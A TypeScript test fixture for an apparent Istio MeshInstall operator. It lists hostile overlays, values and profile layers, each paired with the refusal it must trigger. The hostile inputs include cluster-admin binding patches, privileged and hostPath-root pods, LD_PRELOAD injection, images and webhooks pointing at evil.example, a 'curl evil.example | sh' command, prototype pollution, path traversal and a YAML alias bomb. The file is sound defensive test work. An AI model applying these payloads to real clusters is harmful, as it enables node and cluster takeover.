/** A wish that asks for more than a MeshInstall may, in one of the places where people write. */
export interface HostileWish {
  /** Over a spec of profile demo. */
  readonly spec?: object;
  /** Text of a profile overlay beside it. */
  readonly layer?: string;
  /** Whole path of the refusal. */
  readonly path: string;
  /** What the refusal says, in part. */
  readonly says: RegExp;
  /** Refused before anything is rendered: by the schema, in the API server too. */
  readonly schema?: true;
}

const ISTIOD = { group: 'apps', kind: 'Deployment', name: 'istiod' };
const GATEWAY = { group: 'apps', kind: 'Deployment', name: 'istio-ingressgateway' };
const RBAC = 'rbac.authorization.k8s.io';
const ADMISSION = 'admissionregistration.k8s.io';
const OVERLAY = 'ConfigMap platform/house-rules, overlay.yaml';

function patch(target: object, content: object): { readonly overlays: readonly object[] } {
  return { overlays: [{ target, patch: content }] };
}

function jsonPatch(target: object, ...operations: readonly object[]): { overlays: object[] } {
  return { overlays: [{ target, jsonPatch: operations }] };
}

function pod(spec: object, metadata: object = {}): object {
  return { spec: { template: { metadata, spec } } };
}

function discovery(container: object): object {
  return pod({ containers: [{ name: 'discovery', ...container }] });
}

function webhook(entry: object): object {
  return { webhooks: [{ name: 'rev.namespace.sidecar-injector.istio.io', ...entry }] };
}

const WEBHOOK = {
  group: ADMISSION,
  kind: 'MutatingWebhookConfiguration',
  name: 'istio-revision-tag-default',
};
const PATCH = 'spec.overlays[0].patch';
const JSON_PATCH = 'spec.overlays[0].jsonPatch';

/** JSON with the three magic names as members of their own, which a literal cannot have. */
function raw(json: string): object {
  return JSON.parse(json) as object;
}

const HIDDEN_HOST_PATH = { name: 'node', hostPath: { path: '/' } };
const STRANGER = { name: 'stranger', image: 'docker.io/istio/proxyv2:1.31.1' };

const OVERLAYS: Readonly<Record<string, HostileWish>> = {
  'a patch of a ClusterRoleBinding': {
    spec: patch(
      { group: RBAC, kind: 'ClusterRoleBinding', name: 'istiod-clusterrole-istio-system' },
      { roleRef: { name: 'cluster-admin' } },
    ),
    path: PATCH,
    says: /ClusterRoleBinding cannot be patched/,
  },
  'another subject of a RoleBinding': {
    spec: patch(
      { group: RBAC, kind: 'RoleBinding', name: 'istiod' },
      { subjects: [{ kind: 'User', name: 'mallory' }] },
    ),
    path: PATCH,
    says: /RoleBinding cannot be patched/,
  },
  'even a label of a binding': {
    spec: patch(
      { group: RBAC, kind: 'RoleBinding', name: 'istiod' },
      { metadata: { labels: { a: 'b' } } },
    ),
    path: PATCH,
    says: /RoleBinding cannot be patched/,
  },
  'a ClusterRole that the mesh does not render': {
    spec: patch({ group: RBAC, kind: 'ClusterRole', name: 'cluster-admin' }, { rules: [] }),
    path: 'spec.overlays[0].target',
    says: /the mesh has no ClusterRole/,
  },
  'a CustomResourceDefinition': {
    spec: patch(
      {
        group: 'apiextensions.k8s.io',
        kind: 'CustomResourceDefinition',
        name: 'gateways.networking.istio.io',
      },
      { spec: { scope: 'Cluster' } },
    ),
    path: PATCH,
    says: /CustomResourceDefinition cannot be patched/,
  },
  'the namespace': {
    spec: patch(
      { kind: 'Namespace', name: 'istio-system' },
      { metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } },
    ),
    path: 'spec.overlays[0].target',
    says: /the mesh has no Namespace/,
  },
  'an object of somebody else': {
    spec: patch({ kind: 'ConfigMap', namespace: 'kube-system', name: 'coredns' }, { data: {} }),
    path: 'spec.overlays[0].target',
    says: /the mesh has no ConfigMap kube-system\/coredns/,
  },
  'a Secret': {
    spec: patch({ kind: 'Secret', name: 'istio-ca-secret' }, { data: { a: 'b' } }),
    path: 'spec.overlays[0].target',
    says: /the mesh has no Secret/,
  },
  'the name of another object': {
    spec: patch(ISTIOD, { metadata: { name: 'coredns' } }),
    path: PATCH,
    says: /another object/,
  },
  'the namespace of another object': {
    spec: jsonPatch(ISTIOD, { op: 'replace', path: '/metadata/namespace', value: 'kube-system' }),
    path: JSON_PATCH,
    says: /another object/,
  },
  'another kind': {
    spec: patch(ISTIOD, { kind: 'ClusterRole' }),
    path: PATCH,
    says: /another object/,
  },
  'everything replaced by something else': {
    spec: jsonPatch(ISTIOD, { op: 'replace', path: '', value: { kind: 'Pod' } }),
    path: JSON_PATCH,
    says: /another object/,
  },
  'the label by which we find our objects': {
    spec: patch(ISTIOD, { metadata: { labels: { 'meshinstall.io/owner': null } } }),
    path: PATCH,
    says: /meshinstall\.io\/owner.*cannot be patched/,
  },
  'an owner that would have it collected': {
    spec: patch(ISTIOD, {
      metadata: { ownerReferences: [{ uid: '1', kind: 'Pod', name: 'a', apiVersion: 'v1' }] },
    }),
    path: PATCH,
    says: /metadata\.ownerReferences cannot be patched/,
  },
  'a finalizer that would keep it for ever': {
    spec: patch(ISTIOD, { metadata: { finalizers: ['example.com/never'] } }),
    path: PATCH,
    says: /metadata\.finalizers cannot be patched/,
  },
  'the backend of a webhook as a Service': {
    spec: patch(WEBHOOK, webhook({ clientConfig: { service: { name: 'evil' } } })),
    path: PATCH,
    says: /clientConfig cannot be patched/,
  },
  'the backend of a webhook as a URL': {
    spec: jsonPatch(
      WEBHOOK,
      { op: 'remove', path: '/webhooks/0/clientConfig/service' },
      { op: 'add', path: '/webhooks/0/clientConfig/url', value: 'https://evil.example' },
    ),
    path: JSON_PATCH,
    says: /clientConfig cannot be patched/,
  },
  'the certificate that a webhook trusts': {
    spec: patch(WEBHOOK, webhook({ clientConfig: { caBundle: 'ZXZpbA==' } })),
    path: PATCH,
    says: /clientConfig cannot be patched/,
  },
  'a webhook that sees Secrets': {
    spec: patch(WEBHOOK, webhook({ rules: [{ operations: ['*'], resources: ['secrets'] }] })),
    path: PATCH,
    says: /rules cannot be patched/,
  },
  'a webhook of one’s own': {
    spec: patch(WEBHOOK, {
      webhooks: [{ name: 'evil.example.com', clientConfig: { url: 'https://evil.example' } }],
    }),
    path: PATCH,
    says: /cannot be added/,
  },
  'another account for istiod': {
    spec: patch(ISTIOD, pod({ serviceAccountName: 'cluster-admin' })),
    path: PATCH,
    says: /serviceAccountName runs as the account cluster-admin/,
  },
  'another account by the old name of the field': {
    spec: patch(ISTIOD, pod({ serviceAccount: 'cluster-admin' })),
    path: PATCH,
    says: /account cluster-admin/,
  },
  'a gateway with istiod’s account': {
    spec: patch(GATEWAY, pod({ serviceAccountName: 'istiod' })),
    path: PATCH,
    says: /account istiod/,
  },
  'a privileged container': {
    spec: patch(ISTIOD, discovery({ securityContext: { privileged: true } })),
    path: PATCH,
    says: /containers\.discovery\.securityContext\.privileged is privileged/,
  },
  'an added capability': {
    spec: patch(ISTIOD, discovery({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })),
    path: PATCH,
    says: /capability SYS_ADMIN/,
  },
  'capabilities that are not dropped any more': {
    spec: patch(ISTIOD, discovery({ securityContext: { capabilities: null } })),
    path: PATCH,
    says: /keeps the default capabilities/,
  },
  'a security context that is gone': {
    spec: patch(ISTIOD, discovery({ securityContext: { $patch: 'delete' } })),
    path: PATCH,
    says: /may gain privileges/,
  },
  'root by number': {
    spec: patch(ISTIOD, discovery({ securityContext: { runAsNonRoot: null, runAsUser: 0 } })),
    path: PATCH,
    says: /may run as root/,
  },
  'root by the pod’s word': {
    spec: patch(GATEWAY, pod({ securityContext: { runAsNonRoot: false, runAsUser: 0 } })),
    path: PATCH,
    says: /may run as root/,
  },
  'a root file system that can be written': {
    spec: jsonPatch(ISTIOD, {
      op: 'replace',
      path: '/spec/template/spec/containers/0/securityContext/readOnlyRootFilesystem',
      value: false,
    }),
    path: JSON_PATCH,
    says: /may write its root file system/,
  },
  'a container without seccomp': {
    spec: patch(ISTIOD, discovery({ securityContext: { seccompProfile: { type: 'Unconfined' } } })),
    path: PATCH,
    says: /is unconfined/,
  },
  'a container without AppArmor, by annotation': {
    spec: patch(
      ISTIOD,
      pod(
        {},
        {
          annotations: {
            'container.apparmor.security.beta.kubernetes.io/discovery': 'unconfined',
          },
        },
      ),
    ),
    path: PATCH,
    says: /changes what the pod is made of/,
  },
  'a sight of all of /proc': {
    spec: patch(ISTIOD, discovery({ securityContext: { procMount: 'Unmasked' } })),
    path: PATCH,
    says: /\/proc/,
  },
  'the network of the node': {
    spec: patch(ISTIOD, pod({ hostNetwork: true })),
    path: PATCH,
    says: /hostNetwork leaves the pod’s own namespace/,
  },
  'the processes of the node': {
    spec: patch(GATEWAY, pod({ hostPID: true })),
    path: PATCH,
    says: /hostPID/,
  },
  'the node’s shared memory': {
    spec: patch(GATEWAY, pod({ hostIPC: true })),
    path: PATCH,
    says: /hostIPC/,
  },
  'a parameter of the kernel': {
    spec: patch(
      GATEWAY,
      pod({ securityContext: { sysctls: [{ name: 'kernel.shm_rmid_forced', value: '0' }] } }),
    ),
    path: PATCH,
    says: /parameter of the kernel/,
  },
  'a port of the node': {
    spec: patch(GATEWAY, {
      spec: {
        template: {
          spec: {
            containers: [{ name: 'istio-proxy', ports: [{ containerPort: 8080, hostPort: 80 }] }],
          },
        },
      },
    }),
    path: PATCH,
    says: /port 80 of the node/,
  },
  'a path of the node': {
    spec: patch(ISTIOD, pod({ volumes: [HIDDEN_HOST_PATH] })),
    path: PATCH,
    says: /uses the path \/ of the node/,
  },
  'a path of the node, by JSON Patch': {
    spec: jsonPatch(ISTIOD, {
      op: 'add',
      path: '/spec/template/spec/volumes/-',
      value: HIDDEN_HOST_PATH,
    }),
    path: JSON_PATCH,
    says: /uses the path \/ of the node/,
  },
  'a volume that becomes a path of the node': {
    spec: patch(
      ISTIOD,
      pod({
        volumes: [
          { name: 'local-certs', $retainKeys: ['name', 'hostPath'], hostPath: { path: '/etc' } },
        ],
      }),
    ),
    path: PATCH,
    says: /uses the path \/etc of the node/,
  },
  'a volume of the network': {
    spec: patch(
      ISTIOD,
      pod({ volumes: [{ name: 'n', nfs: { server: 'evil.example', path: '/' } }] }),
    ),
    path: PATCH,
    says: /volume of type nfs/,
  },
  'an image as a volume': {
    spec: patch(ISTIOD, pod({ volumes: [{ name: 'i', image: { reference: 'evil.example/i' } }] })),
    path: PATCH,
    says: /volume of type image/,
  },
  'a foreign image': {
    spec: patch(ISTIOD, discovery({ image: 'evil.example/pilot:1.31.1' })),
    path: PATCH,
    says: /evil\.example\/pilot:1\.31\.1 is not from an allowed hub/,
  },
  'a foreign image behind an allowed hub': {
    spec: patch(ISTIOD, discovery({ image: 'docker.io/istio/../evil/pilot:1.31.1' })),
    path: PATCH,
    says: /not from an allowed hub/,
  },
  'a foreign image by the injector’s annotation': {
    spec: patch(
      GATEWAY,
      pod({}, { annotations: { 'sidecar.istio.io/proxyImage': 'evil.example/proxy' } }),
    ),
    path: PATCH,
    says: /changes what the pod is made of/,
  },
  'a path of the node by the injector’s annotation': {
    spec: patch(
      GATEWAY,
      pod({}, { annotations: { 'sidecar.istio.io/userVolume': '[{"name":"x"}]' } }),
    ),
    path: PATCH,
    says: /changes what the pod is made of/,
  },
  'a second container with the usual rights': {
    spec: patch(ISTIOD, pod({ containers: [STRANGER] })),
    path: PATCH,
    says: /containers\.stranger.*may gain privileges/,
  },
  'a foreign container for a start': {
    spec: patch(ISTIOD, pod({ initContainers: [{ name: 'x', image: 'evil.example/x' }] })),
    path: PATCH,
    says: /evil\.example\/x is not from an allowed hub/,
  },
  'a command of one’s own': {
    spec: patch(ISTIOD, discovery({ command: ['sh', '-c', 'curl evil.example | sh'] })),
    path: PATCH,
    says: /runs a command of your own/,
  },
  'a command in a hook': {
    spec: patch(
      GATEWAY,
      pod({
        containers: [
          { name: 'istio-proxy', lifecycle: { preStop: { exec: { command: ['sh', '-c', 'x'] } } } },
        ],
      }),
    ),
    path: PATCH,
    says: /lifecycle\.preStop\.exec\.command runs a command of your own/,
  },
  'a command in a probe': {
    spec: patch(ISTIOD, discovery({ livenessProbe: { exec: { command: ['/bin/x'] } } })),
    path: PATCH,
    says: /livenessProbe\.exec\.command/,
  },
  'a library that is loaded before all': {
    spec: patch(ISTIOD, discovery({ env: [{ name: 'LD_PRELOAD', value: '/x.so' }] })),
    path: PATCH,
    says: /sets LD_PRELOAD/,
  },
  'another kubeconfig for istiod': {
    spec: patch(ISTIOD, discovery({ env: [{ name: 'KUBECONFIG', value: '/etc/certs/x' }] })),
    path: PATCH,
    says: /sets KUBECONFIG/,
  },
  'another kubeconfig by an argument': {
    spec: patch(ISTIOD, discovery({ args: ['discovery', '--kubeconfig=/etc/certs/x'] })),
    path: PATCH,
    says: /sets --kubeconfig/,
  },
  'injection templates out of the pod’s own annotations': {
    spec: patch(
      ISTIOD,
      pod(
        {
          volumes: [
            {
              name: 'mine',
              downwardAPI: {
                items: [
                  { path: 'config', fieldRef: { fieldPath: "metadata.annotations['templates']" } },
                ],
              },
            },
          ],
          containers: [
            {
              name: 'discovery',
              volumeMounts: [{ name: 'mine', mountPath: '/var/lib/istio/inject' }],
            },
          ],
        },
        { annotations: { templates: 'templates: {sidecar: "spec: {hostNetwork: true}"}' } },
      ),
    ),
    path: PATCH,
    says: /would lie over \/var\/lib\/istio\/inject/,
  },
  'a program of one’s own in the place of the component’s': {
    spec: patch(
      ISTIOD,
      discovery({ volumeMounts: [{ name: 'local-certs', mountPath: '/usr//local/./bin/x/..' }] }),
    ),
    path: PATCH,
    says: /would lie over \/usr\/local\/bin/,
  },
  'a library by the annotation for the proxy': {
    spec: patch(
      GATEWAY,
      pod({}, { annotations: { 'proxy.istio.io/config': 'proxyMetadata: {LD_PRELOAD: /x.so}' } }),
    ),
    path: PATCH,
    says: /sets LD_PRELOAD/,
  },
  'variables whose names nobody sees': {
    spec: patch(ISTIOD, discovery({ envFrom: [{ configMapRef: { name: 'x' } }] })),
    path: PATCH,
    says: /variables whose names are not known/,
  },
  'a selector that takes the pods of others': {
    spec: patch({ kind: 'Service', name: 'istiod' }, { spec: { selector: { app: 'evil' } } }),
    path: PATCH,
    says: /spec\.selector cannot be patched/,
  },
  'a Service that leads out of the cluster': {
    spec: patch(
      { kind: 'Service', name: 'istiod' },
      { spec: { type: 'ExternalName', externalName: 'evil.example' } },
    ),
    path: PATCH,
    says: /externalName cannot be patched/,
  },
  'a Service that takes addresses of others': {
    spec: patch(
      { kind: 'Service', name: 'istio-ingressgateway' },
      { spec: { externalIPs: ['198.51.100.1'] } },
    ),
    path: PATCH,
    says: /externalIPs cannot be patched/,
  },
  'an autoscaler of another workload': {
    spec: {
      profile: 'default',
      ...patch(
        { group: 'autoscaling', kind: 'HorizontalPodAutoscaler', name: 'istiod' },
        { spec: { scaleTargetRef: { name: 'coredns' } } },
      ),
    },
    path: PATCH,
    says: /scaleTargetRef cannot be patched/,
  },
  'a budget over the pods of others': {
    spec: {
      profile: 'default',
      values: { pilot: { autoscaleMin: 2 } },
      ...patch(
        { group: 'policy', kind: 'PodDisruptionBudget', name: 'istiod' },
        { spec: { selector: { matchLabels: {} } } },
      ),
    },
    path: PATCH,
    says: /spec\.selector cannot be patched/,
  },
  'injection templates past the operator’s flag': {
    spec: patch(
      { kind: 'ConfigMap', name: 'istio-sidecar-injector' },
      { data: { config: 'templates: {sidecar: "spec: {hostNetwork: true}"}' } },
    ),
    path: PATCH,
    says: /data cannot be patched/,
  },
  'values of the injector past their checks': {
    spec: patch(
      { kind: 'ConfigMap', name: 'istio-sidecar-injector' },
      { data: { values: '{"global":{"proxy":{"privileged":true}}}' } },
    ),
    path: PATCH,
    says: /data cannot be patched/,
  },
  'mesh configuration past its checks': {
    spec: patch({ kind: 'ConfigMap', name: 'istio' }, { data: { mesh: 'trustDomain: evil' } }),
    path: PATCH,
    says: /data cannot be patched/,
  },
  'tokens of an account for everybody': {
    spec: patch({ kind: 'ServiceAccount', name: 'istiod' }, { automountServiceAccountToken: true }),
    path: PATCH,
    says: /automountServiceAccountToken/,
  },
  'Secrets of an account': {
    spec: patch({ kind: 'ServiceAccount', name: 'istiod' }, { secrets: [{ name: 'x' }] }),
    path: PATCH,
    says: /secrets cannot be patched/,
  },
  'a status that is not true': {
    spec: patch(ISTIOD, { status: { availableReplicas: 9 } }),
    path: PATCH,
    says: /status cannot be patched/,
  },
  'the whole object, deleted': {
    spec: patch(ISTIOD, { $patch: 'delete' }),
    path: `${PATCH}["$patch"]`,
    says: /cannot stand at the top/,
  },
  'a way to the prototype by a pointer': {
    spec: jsonPatch(ISTIOD, { op: 'add', path: '/__proto__/polluted', value: 'yes' }),
    path: `${JSON_PATCH}[0].path`,
    says: /never allowed/,
  },
  'a way to the prototype by the constructor': {
    spec: jsonPatch(ISTIOD, { op: 'add', path: '/metadata/constructor/prototype/x', value: 1 }),
    path: `${JSON_PATCH}[0].path`,
    says: /never allowed/,
  },
  'the prototype as a member of a patch': {
    spec: raw(
      '{"overlays":[{"target":{"group":"apps","kind":"Deployment","name":"istiod"},"patch":{"metadata":{"__proto__":{"polluted":"yes"}}}}]}',
    ),
    path: 'spec.overlays[0].patch.metadata.__proto__',
    says: /never allowed/,
  },
  'a target that is a path': {
    spec: patch({ ...ISTIOD, name: '../../etc/passwd' }, { spec: {} }),
    path: 'spec.overlays[0].target',
    says: /the mesh has no Deployment/,
  },
  'a namespace that is a path': {
    spec: patch({ ...ISTIOD, namespace: '../kube-system' }, { spec: {} }),
    path: 'spec.overlays[0].target.namespace',
    says: /lower-case letters/,
    schema: true,
  },
};

const VALUES: Readonly<Record<string, HostileWish>> = {
  'values with a path of the node': {
    spec: { values: { pilot: { volumes: [HIDDEN_HOST_PATH] } } },
    path: 'spec.values.pilot.volumes[0]',
    says: /uses the path \/ of the node/,
  },
  'values with a privileged container before istiod': {
    spec: {
      values: {
        pilot: { initContainers: [{ ...STRANGER, securityContext: { privileged: true } }] },
      },
    },
    path: 'spec.values.pilot.initContainers[0]',
    says: /is privileged/,
  },
  'values with a foreign image': {
    spec: { values: { pilot: { image: 'evil.example/pilot:1' } } },
    path: 'spec.values.pilot.image',
    says: /not from an allowed hub/,
  },
  'values with a hub of their own': {
    spec: { values: { pilot: { hub: 'docker.io/istio/../evil' } } },
    path: 'spec.values.pilot.hub',
    says: /not from an allowed hub/,
  },
  'values with a foreign image to inject': {
    spec: { values: { global: { proxy: { image: 'evil.example/proxy:1' } } } },
    path: 'spec.values.global.proxy.image',
    says: /not from an allowed hub/,
  },
  'values with a foreign image to inject first': {
    spec: { values: { global: { proxy_init: { image: 'evil.example/init:1' } } } },
    path: 'spec.values.global.proxy_init.image',
    says: /not from an allowed hub/,
  },
  'a hub that the operator does not allow': {
    spec: { images: { hub: 'evil.example/istio' } },
    path: 'spec.images.hub',
    says: /none of the hubs/,
  },
  'values that make every proxy privileged': {
    spec: { values: { global: { proxy: { privileged: true } } } },
    path: 'spec.values.global.proxy.privileged',
    says: /every injected proxy privileged/,
  },
  'values with a library that is loaded before all': {
    spec: { values: { pilot: { env: { LD_PRELOAD: '/x.so' } } } },
    path: 'spec.values.pilot.env.LD_PRELOAD',
    says: /sets LD_PRELOAD/,
  },
  'mesh configuration with a library that is loaded before all': {
    spec: { meshConfig: { defaultConfig: { proxyMetadata: { LD_PRELOAD: '/x.so' } } } },
    path: 'spec.meshConfig.defaultConfig.proxyMetadata.LD_PRELOAD',
    says: /sets LD_PRELOAD/,
  },
  'the same where no gateway is rendered': {
    spec: {
      profile: 'minimal',
      meshConfig: { defaultConfig: { proxyMetadata: { LD_PRELOAD: '/x.so' } } },
    },
    path: 'spec.meshConfig.defaultConfig.proxyMetadata.LD_PRELOAD',
    says: /sets LD_PRELOAD/,
  },
  'mesh configuration with another program for proxies': {
    spec: { meshConfig: { defaultConfig: { binaryPath: '/bin/sh' } } },
    path: 'spec.meshConfig.defaultConfig.binaryPath',
    says: /makes the proxy another program/,
  },
  'values with another kubeconfig for istiod': {
    spec: { values: { pilot: { extraContainerArgs: ['--kubeconfig', '/etc/certs/x'] } } },
    path: 'spec.values.pilot.extraContainerArgs[0]',
    says: /sets --kubeconfig/,
  },
  'values with injection templates out of a ConfigMap': {
    spec: {
      values: {
        pilot: {
          volumes: [{ name: 'mine', configMap: { name: 'mine' } }],
          volumeMounts: [{ name: 'mine', mountPath: '/var/lib/istio' }],
        },
      },
    },
    path: 'spec.values.pilot.volumeMounts[0]',
    says: /would lie over \/var\/lib\/istio\/inject/,
  },
  'values with a command in every injected pod': {
    spec: {
      values: { global: { proxy: { lifecycle: { postStart: { exec: { command: ['sh'] } } } } } },
    },
    path: 'spec.values.global.proxy.lifecycle.postStart.exec.command[0]',
    says: /--allow-injection-templates/,
  },
  'values with annotations for what proxies run': {
    spec: {
      values: {
        sidecarInjectorWebhook: {
          injectedAnnotations: { 'proxy.istio.io/config': '{binaryPath: /bin/sh}' },
        },
      },
    },
    path: 'spec.values.sidecarInjectorWebhook.injectedAnnotations["proxy.istio.io/config"]',
    says: /makes the proxy another program/,
  },
  'values with a foreign image for made gateways': {
    spec: {
      values: {
        gatewayClasses: {
          istio: {
            deployment: {
              spec: {
                template: {
                  spec: { containers: [{ name: 'istio-proxy', image: 'evil.example/x:1' }] },
                },
              },
            },
          },
        },
      },
    },
    path: 'spec.values.gatewayClasses.istio.deployment.spec.template.spec.containers[0]',
    says: /not from an allowed hub/,
  },
  'values with templates of one’s own': {
    spec: { values: { sidecarInjectorWebhook: { templates: { mine: 'spec: {}' } } } },
    path: 'spec.values.sidecarInjectorWebhook.templates.mine',
    says: /--allow-injection-templates/,
  },
  'values with annotations that loosen what is injected': {
    spec: {
      values: {
        sidecarInjectorWebhook: {
          injectedAnnotations: {
            'container.apparmor.security.beta.kubernetes.io/istio-proxy': 'unconfined',
          },
        },
      },
    },
    path: 'spec.values.sidecarInjectorWebhook.injectedAnnotations["container.apparmor.security.beta.kubernetes.io/istio-proxy"]',
    says: /changes what the pod is made of/,
  },
  'values with root for gateways': {
    spec: { values: { gateways: { 'istio-ingressgateway': { runAsRoot: true } } } },
    path: 'spec.values.gateways.istio-ingressgateway.runAsRoot',
    says: /may run as root/,
  },
  'values with root for injected gateways': {
    spec: { values: { gateways: { securityContext: { runAsUser: 0 } } } },
    path: 'spec.values.gateways.securityContext.runAsUser',
    says: /may run as root/,
  },
  'values with a container beside the gateway': {
    spec: {
      values: { gateways: { 'istio-ingressgateway': { additionalContainers: [STRANGER] } } },
    },
    path: 'spec.values.gateways.istio-ingressgateway.additionalContainers[0]',
    says: /may gain privileges/,
  },
  'values that give made gateways the node’s network': {
    spec: {
      values: {
        gatewayClasses: {
          istio: { deployment: { spec: { template: { spec: { hostNetwork: true } } } } },
        },
      },
    },
    path: 'spec.values.gatewayClasses.istio.deployment.spec.template.spec.hostNetwork',
    says: /leaves the pod’s own namespace/,
  },
  'the same as a text': {
    spec: {
      values: {
        gatewayClasses: {
          istio: { deployment: 'spec: {template: {spec: {hostPID: true}}}' },
        },
      },
    },
    path: 'spec.values.gatewayClasses.istio.deployment',
    says: /leaves the pod’s own namespace/,
  },
  'a gateway with the name of istiod': {
    spec: { gateways: [{ name: 'istiod', namespace: '', type: 'Ingress' }] },
    path: 'spec.gateways[0].name',
    says: /Deployment istio-system\/istiod would be two things at once/,
  },
  'a gateway with the name of another’s account': {
    spec: {
      gateways: [
        { name: 'edge', namespace: '', type: 'Ingress' },
        { name: 'edge-service-account', namespace: '', type: 'Ingress', shape: 'Standalone' },
      ],
    },
    path: 'spec.gateways[1].name',
    says: /of this gateway and of spec\.gateways\[0\]/,
  },
  'a gateway with the name of the tag’s Service': {
    spec: {
      gateways: [{ name: 'istiod-revision-tag-default', namespace: '', type: 'Ingress' }],
    },
    path: 'spec.gateways[0].name',
    says: /of this gateway and of component tag/,
  },
  'a gateway whose name is a path': {
    spec: { gateways: [{ name: '../../etc', type: 'Ingress' }] },
    path: 'spec.gateways[0].name',
    says: /lower-case letters/,
    schema: true,
  },
  'a profile that is a path': {
    spec: { profile: '../../etc/passwd' },
    path: 'spec.profile',
    says: /has to be one of/,
    schema: true,
  },
  'a version that is a path': {
    spec: { version: '1.31/../../etc' },
    path: 'spec.version',
    says: /has to be a version/,
    schema: true,
  },
  'a ConfigMap whose key is a path': {
    spec: {
      profileOverlays: [{ configMapKeyRef: { namespace: 'a', name: 'b', key: '../../etc' } }],
    },
    path: 'spec.profileOverlays[0].configMapKeyRef.key',
    says: /letter or digit in front/,
    schema: true,
  },
  'values with the prototype as a member': {
    spec: raw('{"values":{"pilot":{"__proto__":{"polluted":"yes"}}}}'),
    path: 'spec.values.pilot.__proto__',
    says: /never allowed/,
  },
};

const LAYERS: Readonly<Record<string, HostileWish>> = {
  'a profile overlay with a path of the node': {
    layer: 'values: {pilot: {volumes: [{name: node, hostPath: {path: /}}]}}',
    path: `${OVERLAY}: values.pilot.volumes[0]`,
    says: /uses the path \/ of the node/,
  },
  'a profile overlay that has one gateway in two entries': {
    layer:
      'gateways: [{name: edge, type: Ingress}, {name: edge, namespace: istio-system, type: Egress}]',
    path: `${OVERLAY}: gateways[1]`,
    says: /is the same gateway as gateways\[0\]/,
  },
  'a profile overlay with a foreign image': {
    layer: 'values: {pilot: {image: "evil.example/pilot:1"}}',
    path: `${OVERLAY}: values.pilot.image`,
    says: /not from an allowed hub/,
  },
  'a profile overlay with a foreign hub': {
    layer: 'images: {hub: evil.example/istio}',
    path: `${OVERLAY}: images.hub`,
    says: /none of the hubs/,
  },
  'a profile overlay with templates': {
    layer: 'values: {sidecarInjectorWebhook: {templates: {mine: "spec: {}"}}}',
    path: `${OVERLAY}: values.sidecarInjectorWebhook.templates.mine`,
    says: /--allow-injection-templates/,
  },
  'a profile overlay that makes proxies privileged': {
    layer: 'values: {global: {proxy: {privileged: true}}}',
    path: `${OVERLAY}: values.global.proxy.privileged`,
    says: /every injected proxy privileged/,
  },
  'a profile overlay that patches a binding': {
    layer:
      'overlays: [{target: {group: rbac.authorization.k8s.io, kind: RoleBinding, name: istiod}, patch: {subjects: []}}]',
    path: `${OVERLAY}: overlays[0].patch`,
    says: /RoleBinding cannot be patched/,
  },
  'a profile overlay that patches privileges': {
    layer:
      'overlays: [{target: {group: apps, kind: Deployment, name: istiod}, patch: {spec: {template: {spec: {hostNetwork: true}}}}}]',
    path: `${OVERLAY}: overlays[0].patch`,
    says: /hostNetwork/,
  },
  'a profile overlay that takes the namespace': {
    layer: 'namespace: kube-system',
    path: `${OVERLAY}: namespace`,
    says: /no such field/,
  },
  'a profile overlay that purges': {
    layer: 'deletionPolicy: Purge',
    path: `${OVERLAY}: deletionPolicy`,
    says: /no such field/,
  },
  'a profile overlay that brings others': {
    layer: 'profileOverlays: [{configMapKeyRef: {namespace: a, name: b, key: c}}]',
    path: `${OVERLAY}: profileOverlays`,
    says: /no such field/,
  },
  'a profile overlay with the prototype as a member': {
    layer: 'values: {__proto__: {polluted: "yes"}}',
    path: `${OVERLAY}: values.__proto__`,
    says: /never allowed/,
  },
  'a profile overlay that explodes': {
    layer: `a: &a [${'x,'.repeat(9)}x]\nb: &b [${'*a,'.repeat(9)}*a]\nc: &c [${'*b,'.repeat(9)}*b]\nd: &d [${'*c,'.repeat(9)}*c]\nvalues: {pilot: {volumes: [${'*d,'.repeat(9)}*d]}}`,
    path: `${OVERLAY}: values`,
    says: /too large/,
  },
  'a profile overlay that is no map': {
    layer: '- a\n- b',
    path: OVERLAY,
    says: /has to be a map/,
  },
  'a profile overlay that is no YAML': {
    layer: '{values: [',
    path: OVERLAY,
    says: /is no YAML/,
  },
};

/** Everything that somebody might try, by what it is. All of it is refused, and nothing of it comes about. */
export const HOSTILE_WISHES: Readonly<Record<string, HostileWish>> = {
  ...OVERLAYS,
  ...VALUES,
  ...LAYERS,
};
